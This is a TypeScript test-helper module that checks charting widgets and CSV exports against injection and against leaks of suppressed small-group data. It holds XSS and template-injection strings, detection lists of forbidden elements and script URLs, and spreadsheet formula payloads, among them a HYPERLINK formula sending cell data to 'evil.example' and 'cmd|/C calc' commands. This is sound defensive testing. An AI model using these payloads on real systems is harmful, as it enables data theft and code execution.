/**
 * Hostile strings and the checks that prove none of them became markup or ran. Shared by the
 * browser tests (test/widgets/hostile.test.ts); the DOM checks need a browser, the corpus does not.
 */

/** What a string sets when it runs. */
export const PWNED = '__pwned';

/** The long string: 100 000 characters of markup. */
export const LONG = '<i>x</i>'.repeat(12_500);

/**
 * Strings a user controls that try to become markup, break out of a quoted attribute, a style
 * or a Vega expression, or overwhelm the layout. Each is distinct (group names must be unique).
 */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror=window.__pwned=1>',
  '<script>window.__pwned=1</script>',
  'javascript:window.__pwned=1',
  '<svg onload=window.__pwned=1>',
  '"><img src=x onerror=window.__pwned=1>',
  `'";}</style><img src=x onerror=window.__pwned=1>`,
  '</title><script>window.__pwned=1</script>',
  ']]><script>window.__pwned=1</script>',
  '&lt;img src=x onerror=window.__pwned=1&gt;',
  '<a href="javascript:window.__pwned=1">click</a>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '\u202Edesrever\u200B\u200C\u200D\u2060\uFEFF hidden',
  "{{constructor.constructor('window.__pwned=1')()}}",
  '${window.__pwned=1}',
  'datum.x + (window.__pwned = 1)',
  "' + (window.__pwned = 1) + '",
  'control\u0001characters\u0007\u001b[31m',
  '" + (window.__pwned = 1) + "',
  LONG,
];

/** The corpus without the long string (for places where one is enough). */
export const SHORT_HOSTILE = HOSTILE.filter((s) => s !== LONG);

/** True when a hostile string has run. */
export function pwned(): boolean {
  return (window as unknown as Record<string, unknown>)[PWNED] !== undefined;
}

export function resetPwned(): void {
  delete (window as unknown as Record<string, unknown>)[PWNED];
}

/** Elements no data string may ever produce inside a widget. */
const FORBIDDEN = new Set(['img', 'script', 'iframe', 'object', 'embed', 'style', 'link', 'base', 'meta', 'form', 'foreignobject', 'image', 'frame', 'video', 'audio', 'math']);
const URL_ATTRS = new Set(['href', 'xlink:href', 'src', 'action', 'formaction', 'srcdoc', 'data']);

function describe(el: Element): string {
  return `<${el.localName}${[...el.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 40)}"`).join('')}>`;
}

/** Problems with one element: a forbidden tag, an event-handler attribute, a script URL. */
function elementProblems(el: Element): string[] {
  const out: string[] = [];
  // Vega's own empty container for input bindings is not from data.
  const vegaBindings = el.localName === 'form' && el.classList.contains('vega-bindings') && el.childElementCount === 0;
  if (FORBIDDEN.has(el.localName.toLowerCase()) && !vegaBindings) out.push(`forbidden element ${describe(el)}`);
  for (const attr of [...el.attributes]) {
    const name = attr.name.toLowerCase();
    if (name.startsWith('on')) out.push(`event-handler attribute ${name} on ${describe(el)}`);
    if (URL_ATTRS.has(name) && /^\s*(javascript|data|vbscript):/i.test(attr.value)) out.push(`script URL in ${name} on ${describe(el)}`);
  }
  return out;
}

/** Walks an element, its shadow roots and their descendants (open shadow roots included). */
export function walk(root: Node, visit: (el: Element) => void): void {
  const step = (node: Node) => {
    if (node instanceof Element) {
      visit(node);
      if (node.shadowRoot) step(node.shadowRoot);
    }
    node.childNodes.forEach(step);
  };
  step(root);
}

/**
 * Every sign that data became markup in a widget's DOM (shadow roots included) and in Vega's
 * tooltip element: forbidden elements, `on*` attributes, script URLs. The host's own attributes
 * are skipped: they are what the test set (e.g. `heading="<img …>"`), not markup.
 */
export function domProblems(hosts: readonly Element[]): string[] {
  const out: string[] = [];
  const roots: Node[] = [...hosts, ...document.querySelectorAll('#vg-tooltip-element')];
  for (const root of roots) {
    walk(root, (el) => {
      if (hosts.includes(el)) return;
      out.push(...elementProblems(el));
    });
  }
  return out;
}

/** Problems with an exported SVG document: it must parse, and hold no script, handler or script URL. */
export function svgProblems(svg: string): string[] {
  if (!svg) return ['empty SVG'];
  const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
  const error = doc.querySelector('parsererror');
  if (error) return [`SVG does not parse: ${error.textContent?.slice(0, 200)}`];
  const out: string[] = [];
  if (doc.documentElement.localName !== 'svg') out.push(`root is <${doc.documentElement.localName}>`);
  walk(doc.documentElement, (el) => out.push(...elementProblems(el)));
  return out;
}

/** All text of a DOM tree, shadow roots included, with attribute values (for leak searches). */
export function deepText(root: Node): string {
  const parts: string[] = [];
  const step = (node: Node) => {
    if (node.nodeType === Node.TEXT_NODE) parts.push(node.textContent ?? '');
    if (node instanceof Element) {
      for (const a of [...node.attributes]) parts.push(a.value);
      if (node.shadowRoot) step(node.shadowRoot);
    }
    node.childNodes.forEach(step);
  };
  step(root);
  return parts.join('\n');
}

/**
 * Hovers a mark of a Vega SVG chart: dispatches pointer and mouse moves on it, as a visitor's
 * pointer would, so Vega's tooltip handler shows the datum. Returns the tooltip element, if any.
 */
export async function hover(mark: Element): Promise<HTMLElement | null> {
  const box = mark.getBoundingClientRect();
  const init = { bubbles: true, composed: true, cancelable: true, clientX: box.x + box.width / 2, clientY: box.y + box.height / 2, pointerType: 'mouse' };
  for (const type of ['pointerover', 'pointerenter', 'pointermove', 'mouseover', 'mousemove']) {
    mark.dispatchEvent(type.startsWith('pointer') ? new PointerEvent(type, init) : new MouseEvent(type, init));
  }
  await new Promise((r) => setTimeout(r, 50));
  return document.querySelector<HTMLElement>('#vg-tooltip-element');
}

/** Cells a spreadsheet would run as formulas, and the signed numbers that must stay numbers. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1',
  '-1+1',
  '+A1',
];

/** Parses CSV text (RFC 4180 quoting) into rows of cells. */
export function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** A cell a spreadsheet would evaluate: starts with = + - @ tab or CR, and is not a plain signed number. */
export function isLiveFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\.?\d[\d.,]*%?$/.test(cell);
}

/**
 * Gap-chart rows with groups that must be suppressed (n ≤ 10, n or value "*"), and the names and
 * values of those groups that must appear nowhere. Shown groups have whole-number values, so a
 * suppressed group's decimal values cannot turn up by coincidence in a gap or a median.
 */
export const SUPPRESSION_ROWS: ReadonlyArray<Record<string, unknown>> = [
  { group: 'ALL', value: 50, prior: 48, n: 1000, year: '2024-25' },
  { group: 'EL', value: 40, prior: null, n: 300, year: '2024-25' },
  { group: 'HI', value: 45, prior: 44, n: 200, year: '2024-25' },
  { group: 'WH', value: 55, prior: 53, n: 150, year: '2024-25' },
  { group: 'SWD', value: 30, prior: 32, n: 11, year: '2024-25' },
  { group: 'PI', value: 83.91, prior: 79.37, n: 9, year: '2024-25' },
  { group: 'Zebra Academy Cohort', value: 61.37, prior: 59.83, n: 10, year: '2024-25' },
  { group: 'Quokka Newcomer Program', value: '*', prior: 57.19, n: '*', year: '2024-25' },
  { group: 'HOM', value: 71.13, prior: 68.47, n: '*', year: '2024-25' },
  { group: 'Narwhal Night School', value: 66.29, prior: 64.71, n: 0, year: '2024-25' },
  // Last year: EL was too small to show, so its 39.17 must not become this year's prior;
  // Zebra was big enough last year but is suppressed now, so its 58.77 must not appear either.
  { group: 'EL', value: 39.17, prior: null, n: 8, year: '2023-24' },
  { group: 'Zebra Academy Cohort', value: 58.77, prior: null, n: 40, year: '2023-24' },
  { group: 'ALL', value: 48, prior: null, n: 990, year: '2023-24' },
];

/** Names of the suppressed groups that no view may show (the test adds the CDE groups' names). */
export const SUPPRESSED_NAMES: readonly string[] = ['Zebra', 'Quokka', 'Narwhal'];

/** Values of the suppressed groups (this year's, last year's, and the prior years') that no view may show. */
export const SUPPRESSED_VALUES: readonly number[] = [83.91, 79.37, 61.37, 59.83, 57.19, 71.13, 68.47, 66.29, 64.71, 39.17, 58.77];

/** The forbidden names found in a text (case-insensitive). */
export function nameLeaks(text: string, names: readonly string[]): string[] {
  const lower = text.toLowerCase();
  return names.filter((f) => lower.includes(f.toLowerCase()));
}

/**
 * The forbidden values found in a text, written as a view would write them: to one decimal
 * (rounded or cut), or in full, with a point or a comma, not part of a longer number.
 */
export function valueLeaks(text: string, values: readonly number[]): string[] {
  const found: string[] = [];
  for (const v of values) {
    const forms = new Set([v.toFixed(1), (Math.trunc(v * 10) / 10).toFixed(1), String(v)]);
    for (const form of forms) {
      const [int, dec] = form.split('.');
      if (new RegExp(`(?<![\\d.,])${int}[.,]${dec}(?!\\d)`).test(text)) found.push(form);
    }
  }
  return found;
}

/** Geometry attributes: pixel positions, not content (a coordinate may look like a value by chance). */
const GEOMETRY = new Set(['d', 'transform', 'x', 'y', 'x1', 'x2', 'y1', 'y2', 'cx', 'cy', 'r', 'width', 'height', 'points', 'viewbox', 'style', 'stroke-width', 'stroke-dasharray', 'font-size', 'opacity', 'stroke-miterlimit']);

/** The content of a DOM tree: text and non-geometry attribute values, shadow roots included. */
export function contentText(root: Node): string {
  const parts: string[] = [];
  const step = (node: Node) => {
    if (node.nodeType === Node.TEXT_NODE) parts.push(node.textContent ?? '');
    if (node instanceof Element) {
      for (const a of [...node.attributes]) if (!GEOMETRY.has(a.name.toLowerCase())) parts.push(a.value);
      if (node.shadowRoot) step(node.shadowRoot);
    }
    node.childNodes.forEach(step);
  };
  step(root);
  return parts.join('\n');
}

/** A Vega dataset's tuples without scenegraph items: the data fields only (strings, numbers, dates). */
export function datasetText(tuples: readonly unknown[]): string {
  return tuples
    .map((t) => {
      if (!t || typeof t !== 'object') return String(t);
      const fields = Object.entries(t as Record<string, unknown>).filter(([k, v]) => k !== 'mark' && k !== 'items' && (typeof v !== 'object' || v === null || v instanceof Date));
      // Scenegraph items: their datum holds the data; their own x, y, width are pixels.
      const datum = (t as { datum?: unknown }).datum;
      const own = (t as { mark?: unknown }).mark ? [] : fields;
      return JSON.stringify([Object.fromEntries(own), datum && typeof datum === 'object' ? datasetText([datum]) : null]);
    })
    .join('\n');
}

/** Every string and number reachable from a value (cycles and Vega's scenegraph items included), as text. */
export function primitives(value: unknown, limit = 200_000): string {
  const out: string[] = [];
  const seen = new WeakSet<object>();
  const stack: unknown[] = [value];
  while (stack.length && out.length < limit) {
    const v = stack.pop();
    if (typeof v === 'string' || typeof v === 'number') out.push(String(v));
    else if (v && typeof v === 'object' && !seen.has(v)) {
      seen.add(v);
      if (v instanceof Date) out.push(v.toISOString());
      else for (const k of Object.keys(v)) stack.push((v as Record<string, unknown>)[k]);
    }
  }
  return out.join('\n');
}
